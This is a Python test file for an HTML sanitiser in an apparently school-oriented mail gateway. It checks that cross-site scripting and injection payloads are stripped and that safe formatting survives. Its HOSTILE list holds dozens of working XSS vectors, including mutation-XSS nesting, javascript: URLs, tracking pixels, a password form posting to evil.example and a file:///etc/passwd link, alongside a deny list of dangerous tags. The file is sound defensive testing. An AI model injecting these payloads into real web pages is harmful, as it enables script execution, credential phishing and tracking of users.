import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.threads.html import (
    MANY_ESCAPES,
    MANY_TAGS,
    PREVIEW_LENGTH,
    html_as_text,
    preview_of,
    safe_html,
    text_as_html,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/pixel?id=7' width=1 height=1>",
    "<img srcset='https://tracker.example/pixel 1x' alt=logo>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/settings/credentials'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x.example' target=_self onclick=alert(1)>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1) background='https://evil.example/x'>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/x'>x</td></tr></table>",
    "<video poster='https://evil.example/x'><source src='https://evil.example/x'></video>",
    "<audio src='https://evil.example/x' autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select><style></select><script>alert(1)</script></style>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=csrf name=cookie class=modal>x</p>",
    "<a name=getElementById>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<p><slot onslotchange=alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>",
]

ATTRIBUTES = {"dir", "lang", "title", "href", "target", "rel", "alt", "colspan", "rowspan", "scope", "start", "type"}
DANGEROUS = {"script", "style", "svg", "math", "form", "input", "button", "iframe", "object", "embed", "link", "meta"}
DANGEROUS |= {"base", "template", "textarea", "select", "video", "audio", "source", "body", "noscript", "plaintext"}


class Inventory(HTMLParser):
    """What a browser would find in it: tags, attributes, addresses."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name == "href"]


def assert_harmless(html: str) -> None:
    found = Inventory(html)
    assert not found.tags & DANGEROUS
    assert found.attributes <= ATTRIBUTES
    assert all(re.match(r"(https?|mailto|tel):", address, re.I) for address in found.addresses)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_is_left(hostile: str) -> None:
    cleaned = safe_html(f"<p>before</p>{hostile}<p>after</p>")
    assert_harmless(cleaned)
    assert safe_html(cleaned) == cleaned
    assert "before" in cleaned


TAGS = "p table tr td a b i pre svg math mi style select form title li ul div font desc foreignObject br"
FRAGMENTS = st.sampled_from(
    [
        *HOSTILE,
        *[f"<{name}>" for name in TAGS.split()],
        *[f"</{name}>" for name in TAGS.split()],
        *["<!--", "-->", "\n", "&lt;", "&amp;", "&#0;", "\0", "\r", "x"],
    ]
)
MARKUP = st.lists(FRAGMENTS, max_size=25).map("".join) | st.text()


@settings(max_examples=400)
@given(MARKUP)
@example("<pre>\n\n\nx</pre>")
@example("<b><div></b>" * 3000)
def test_what_was_made_safe_stays_as_it_is(html: str) -> None:
    once = safe_html(html)
    assert safe_html(once) == once
    assert_harmless(once)


@settings(max_examples=400)
@given(MARKUP)
def test_text_shown_as_html_is_safe_as_it_is(text: str) -> None:
    html = text_as_html(text)
    assert safe_html(html) == html


def test_what_mail_needs_to_be_read_is_kept() -> None:
    kept = (
        '<h2 dir="rtl">Kia ora</h2><p><b>Tēnā</b> koe, <i>Māia</i> 🎉</p><ul><li>one</li></ul>'
        "<blockquote>quoted</blockquote>"
        '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert safe_html(kept) == kept


def test_links_open_elsewhere_and_tell_nothing() -> None:
    link = safe_html('<a href="https://school.example/?a=1&amp;b=2" rel="opener" target="top">here</a>')
    assert 'href="https://school.example/?a=1&amp;b=2"' in link
    assert 'target="_blank"' in link
    assert 'rel="noopener noreferrer"' in link


def test_of_pictures_the_words_are_left() -> None:
    assert safe_html('<img src="cid:logo" alt="The crest">') == '<img alt="The crest">'
    assert safe_html('<img src="https://t.example/x" alt="A &amp; B">') == '<img alt="A &amp; B">'


@pytest.mark.parametrize(
    "html",
    ["<div>" * (MANY_TAGS + 1) + "deep", "&" * (MANY_ESCAPES + 1), "\xa0" * (MANY_ESCAPES + 1) + "x"],
    ids=["tags", "escapes", "blanks"],
)
def test_a_body_made_to_be_slow_is_shown_as_text(html: str) -> None:
    shown = safe_html(html)
    assert shown.startswith("<div>")
    assert shown.count("<div>") == 1
    assert safe_html(shown) == shown


def test_html_as_text_keeps_lines_and_leaves_out_what_nobody_sees() -> None:
    html = (
        "<html><head><title>no</title><style>p { color: red }</style></head><body><!-- if a > b -->"
        "<p>Kia&nbsp;ora &amp; haere mai,</p><p>one<br>two</p><script>no()</script>"
        "<table><tr><td>a</td><td>b</td></tr></table></body></html>"
    )
    assert html_as_text(html) == "Kia ora & haere mai,\n\none\ntwo\n\na b"


def test_text_as_html_escapes_keeps_lines_and_makes_links() -> None:
    html = text_as_html("See https://school.example/a?b=1&c=2.\n<b> & done")
    assert html == (
        '<div>See <a href="https://school.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">'
        "https://school.example/a?b=1&amp;c=2</a>.<br>&lt;b&gt; &amp; done</div>"
    )


@given(st.text())
def test_a_preview_is_one_short_line(text: str) -> None:
    preview = preview_of(text)
    assert len(preview) <= PREVIEW_LENGTH
    assert "\n" not in preview


@given(MARKUP)
def test_no_markup_is_too_odd_to_be_read_as_text(html: str) -> None:
    assert html_as_text(html) == html_as_text(html).strip()
